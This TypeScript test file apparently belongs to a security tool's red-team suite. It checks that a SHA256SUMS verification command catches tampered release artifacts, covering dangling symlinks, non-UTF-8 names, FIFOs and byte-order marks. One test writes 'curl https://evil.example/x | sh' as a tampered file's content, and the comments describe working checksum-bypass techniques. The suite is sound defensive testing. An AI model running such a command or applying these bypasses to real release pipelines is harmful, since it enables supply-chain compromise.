// Red-team round on `bulwark check downloads SHA256SUMS --dir DIR`. The attacker writes to the release directory
// (a compromised mirror, whose rsync copies symlinks and odd names as they are) and, as a malicious contributor,
// chooses the names of files that go into a release the publisher then lists with its own sha256sum. Their aim:
// a tampered artifact that the check lets through with exit 0, a listed name quietly dropped, a check that hangs
// or hashes without bound. Each test is an attack that must fail on correct code; "attack: … (was: …)" failed before
// its fix (the round's two findings, fixed the same day), the others pin defences that held.
// Temp dirs only; the CLI is spawned only where a regression would hang this process.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { verifyDownloads, type VerifyDownloadsResult } from "../src/checks/downloads/index.ts";
import { atLeast } from "../src/checks/finding.ts";
import { sha256, verifyWatchingOpens } from "./helpers/checks.ts";
import { scratchRoot } from "./helpers/scratch.ts";
import { bulwark, bulwarkInProcess, type CLIResult } from "./helpers/cli.ts";

const { root, fresh } = scratchRoot("bulwark-redteam-downloads-c-");



type Items = Array<Record<string, unknown>>;
/** Every evidence item of every finding at or above high, with the finding's id. */
const serious = (r: VerifyDownloadsResult): Items =>
  r.findings.filter((f) => atLeast(f.severity, "high")).flatMap((f) => (f.evidence["items"] as Items).map((i) => ({ ...i, id: f.id })));

/** Runs the CLI in a child, stdin a pipe left open; killed past `limitMs` (a safety net). */
const spawnBulwark = (args: string[], limitMs = 20_000): Promise<CLIResult> =>
  bulwark(args, { env: { BULWARK_DATA_DIR: join(root, "data") }, stdin: "open", limitMs });

// ---------------------------------------------------------------------------------------------------------
// --ignore-missing and names that exist as links leading nowhere (yet)
// ---------------------------------------------------------------------------------------------------------

// The mirror ships `app.iso` as a symlink to an absolute path that does not exist on the verifying host, and
// `pool` as a link to a directory that does not exist there (rsync -l copies both as they are). realpath() fails
// with ENOENT, and verify.ts's missing() treats ENOENT as "the name does not exist": under --ignore-missing both
// vanish into `missingIgnored`, no finding, exit 0, "1 of 3 listed file(s) verified". But the names do exist:
// each is a link that leads out of the directory, which docs/checks.md promises is refused ("leads out of the
// directory through a link"), and "a listed name that exists but is not a regular file is still
// downloads.missing". The link resolves as soon as its target exists: on the host the directory is copied to
// (`cp -a`, rsync -l) for installation, or once someone who can write the target's directory fills it — and the
// installer then reads a file the check never saw, from outside the directory. ASVS 1.3.3, 16.5.3.
test("attack: under --ignore-missing, a listed name that is a dangling symlink leading outside the directory — directly, through a directory link, or through a link inside that leads to one outside — is reported, exit 1 (ASVS 1.3.3, 16.5.3) (was: counted as absent, exit 0, and the installer later followed it to unverified content outside)", async () => {
  const base = fresh("dangling");
  const rel = join(base, "release");
  mkdirSync(rel);
  writeFileSync(join(rel, "readme.txt"), "genuine readme\n");
  const outside = join(base, "not-yet"); // the attacker's target; absent while the check runs
  symlinkSync(join(outside, "payload.iso"), join(rel, "app.iso"));
  symlinkSync(join(outside, "pool"), join(rel, "pool"));
  symlinkSync(join(outside, "chained.iso"), join(rel, "hop"));
  symlinkSync("hop", join(rel, "chain.iso")); // inside the directory, to a link that leads out
  const sums = join(base, "SHA256SUMS");
  writeFileSync(sums, `${sha256("genuine readme\n")}  readme.txt\n${sha256("genuine app\n")}  app.iso\n${sha256("genuine pkg\n")}  pool/pkg.deb\n${sha256("genuine chain\n")}  chain.iso\n`);

  const r = await verifyDownloads({ sums, dir: rel, ignoreMissing: true });
  assert.equal(r.ok, 1);
  const reported = serious(r).map((i) => i["name"]).sort();
  assert.deepEqual(reported, ["app.iso", "chain.iso", "pool/pkg.deb"], `links leading out of the directory must be reported, not ignored as absent (missingIgnored ${r.missingIgnored}, findings ${JSON.stringify(r.findings.map((f) => f.id))})`);
  assert.equal(r.missingIgnored, 0);

  const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel, "--ignore-missing"]);
  assert.equal(cli.code, 1, `exit ${cli.code}: ${cli.stdout}`);
});

// ---------------------------------------------------------------------------------------------------------
// A well-formed sha256sum line the parser cannot read
// ---------------------------------------------------------------------------------------------------------

// A contributor gets a file named `tool\xff.sh` (a Latin-1 byte: legal on Linux, and what an old build box
// produces) into the release; the publisher runs `sha256sum *` (or `--tag`), which writes the name's raw bytes.
// The mirror then swaps that file's content. `sha256sum -c` reports "tool\xff.sh: FAILED", exit 1. Bulwark's
// parseSums decodes each line as strict UTF-8 and turns the whole line into a MEDIUM downloads.malformed-line:
// the file is never opened, the summary says "1 of 1 listed file(s) verified", and with the default --fail-on
// high the check exits 0. The tampered file passes the check meant to catch it. (The files check already names
// such entries, with nameFromBytes; the downloads check does not.) ASVS 16.5.3 (fail-open), 1.5.3 (two parsers of
// one format must agree).
describe("a listed file whose name is not UTF-8", () => {
  for (const form of ["gnu", "bsd"] as const) {
    test(`attack: a tampered artifact whose name holds a non-UTF-8 byte is reported at high (not verified by name), so the check exits 1, ${form} form (ASVS 16.5.3, 1.5.3) (was: a medium malformed line, exit 0, while sha256sum -c says FAILED)`, async () => {
      const rel = fresh(`latin1-${form}`);
      writeFileSync(join(rel, "app.iso"), "genuine app\n");
      const nameBytes = Buffer.concat([Buffer.from("tool"), Buffer.of(0xff), Buffer.from(".sh")]);
      writeFileSync(Buffer.concat([Buffer.from(`${rel}/`), nameBytes]), "curl https://evil.example/x | sh\n");
      const published = sha256("release helper\n");
      const line = form === "gnu" ? [Buffer.from(`${published}  `), nameBytes, Buffer.from("\n")] : [Buffer.from("SHA256 ("), nameBytes, Buffer.from(`) = ${published}\n`)];
      const first = form === "gnu" ? `${sha256("genuine app\n")}  app.iso\n` : `SHA256 (app.iso) = ${sha256("genuine app\n")}\n`;
      const sums = join(root, `SUMS-latin1-${form}`);
      writeFileSync(sums, Buffer.concat([Buffer.from(first), ...line]));

      const r = await verifyDownloads({ sums, dir: rel });
      assert.ok(
        serious(r).some((i) => i["line"] === 2),
        `line 2 (the tampered file) must be reported at high or above; got ${JSON.stringify(r.findings.map((f) => [f.id, f.severity, f.evidence["items"]]))}`,
      );
      const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel]);
      assert.equal(cli.code, 1, `exit ${cli.code}: ${cli.stdout}`);
    });
  }
});

// ---------------------------------------------------------------------------------------------------------
// Defences that hold (pinned)
// ---------------------------------------------------------------------------------------------------------

// A hostile list (no write access to the directory needed) names one 2 MiB artifact 300 times in different
// spellings — `./x`, `.//x`, `././x`, a link inside the directory, a path through a link to the directory
// itself — to multiply the hashing. verify.ts keys its cache on the real path, so the file is opened once and
// each line still gets its own verdict. (Hard links are not deduplicated, but need write access to the
// directory, where one sparse file already costs as much.)
test("attack: one artifact listed 300 times in different spellings (./, //, a link, a path through a link) is opened once, and every line still gets its verdict", async () => {
  const rel = fresh("spellings");
  const image = Buffer.alloc(2 << 20, 0x5a);
  writeFileSync(join(rel, "big.iso"), image);
  symlinkSync("big.iso", join(rel, "alias.iso"));
  mkdirSync(join(rel, "sub"));
  symlinkSync("..", join(rel, "sub", "up"));
  const spellings = ["big.iso", "./big.iso", ".//big.iso", "alias.iso", "sub/up/big.iso", "sub/./up/alias.iso"];
  const lines: string[] = [];
  for (let i = 0; i < 300; i++) {
    const name = i < spellings.length ? (spellings[i] as string) : `${"./".repeat(i)}big.iso`;
    lines.push(`${sha256(image)}  ${name}`);
  }
  lines.push(`${sha256("something else")}  ./././alias.iso`);
  const sums = join(root, "SUMS-spellings");
  writeFileSync(sums, `${lines.join("\n")}\n`);

  let opens = 0;
  const r = await verifyWatchingOpens({ sums, dir: rel }, () => opens++);
  assert.equal(opens, 1, "the artifact was hashed once");
  assert.equal(r.ok, 300);
  assert.deepEqual(r.findings.map((f) => [f.id, f.evidence["count"]]), [["downloads.mismatch", 1]], "the contradicting last line is still a mismatch");
});

// The mirror swaps listed artifacts for things that never end or block: a FIFO with no writer, a link to
// /dev/zero, a link to a FIFO, a directory. None may hang the check or be read; each is a high finding and the
// check exits 1 promptly. ASVS 16.5.3.
test("attack: listed artifacts replaced by a FIFO, a link to a FIFO, a link to /dev/zero and a directory are reported, not read, and the check ends", async () => {
  const rel = fresh("special");
  writeFileSync(join(rel, "ok.txt"), "fine\n");
  execFileSync("mkfifo", [join(rel, "a.iso")]);
  symlinkSync("a.iso", join(rel, "b.iso"));
  symlinkSync("/dev/zero", join(rel, "c.iso"));
  mkdirSync(join(rel, "d.iso"));
  const sums = join(root, "SUMS-special");
  writeFileSync(sums, [["fine\n", "ok.txt"], ["a", "a.iso"], ["b", "b.iso"], ["c", "c.iso"], ["d", "d.iso"]].map(([c, n]) => `${sha256(c as string)}  ${n}\n`).join(""));

  const r = await spawnBulwark(["check", "downloads", sums, "--dir", rel, "--json"]);
  assert.equal(r.signal, null, "the check hung and was killed");
  assert.equal(r.code, 1, r.stderr);
  const out = JSON.parse(r.stdout) as { ok: number; verified: string[]; findings: Array<{ id: string; severity: string; evidence: { items: Items } }> };
  assert.deepEqual(out.verified, ["ok.txt"]);
  const byName = Object.fromEntries(out.findings.flatMap((f) => f.evidence.items.map((i) => [i["name"], f.id])));
  assert.deepEqual(byName, { "a.iso": "downloads.missing", "b.iso": "downloads.missing", "c.iso": "downloads.path-traversal", "d.iso": "downloads.missing" });
});

// A list saved by Windows PowerShell 5 (`Out-File`) starts with a UTF-8 byte-order mark. GNU `sha256sum -c`
// calls that first line "improperly formatted", skips it and exits 0 — a mirror that tampers with the first
// listed artifact passes it. Bulwark drops the mark, checks the first line like any other and reports the
// tampering. ASVS 16.5.3.
test("attack: a tampered first artifact in a list that starts with a byte-order mark is still a critical mismatch (sha256sum -c skips the line and exits 0)", async () => {
  const rel = fresh("bom");
  writeFileSync(join(rel, "first.zip"), "tampered\n");
  writeFileSync(join(rel, "second.zip"), "second\n");
  const sums = join(root, "SUMS-bom");
  writeFileSync(sums, Buffer.concat([Buffer.of(0xef, 0xbb, 0xbf), Buffer.from(`${sha256("original\n")} *first.zip\r\n${sha256("second\n")} *second.zip\r\n`)]));
  const r = await verifyDownloads({ sums, dir: rel });
  assert.equal(r.entries, 2);
  assert.deepEqual(r.okNames, ["second.zip"]);
  assert.deepEqual(serious(r).map((i) => [i["id"], i["name"], i["line"]]), [["downloads.mismatch", "first.zip", 1]]);
});
